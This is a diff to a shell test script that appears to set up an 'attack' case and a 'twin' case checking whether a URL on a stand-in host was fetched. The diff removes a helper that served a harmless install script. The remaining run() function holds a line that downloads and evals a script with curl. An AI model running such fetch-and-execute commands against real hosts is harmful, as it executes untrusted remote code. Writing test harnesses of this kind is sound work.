@@ -7,15 +7,6 @@
 #: twin: an answer is looked at
 . "$DRIVERS/lib.sh"
 
-site() {
-	mkdir site
-	printf '#!/bin/sh\necho hello\n' >site/install
-	cp /bin/true site/tool
-	(cd site && exec python3 -u -m http.server 8080 --bind 203.0.113.7 >../listening 2>&1) &
-	trap 'kill %1' EXIT
-	wait_for grep -q Serving listening
-}
-
 run() {
 	site
 	bash -c 'eval "$(curl -s http://203.0.113.7:8080/install)"'
@@ -31,13 +22,11 @@ looked_at() {
 }
 
 attack() {
-	export -f site
 	in_own_network run
 	did http://203.0.113.7:8080/install
 }
 
 twin() {
-	export -f site
 	in_own_network looked_at
 	did http://203.0.113.7:8080/install
 }
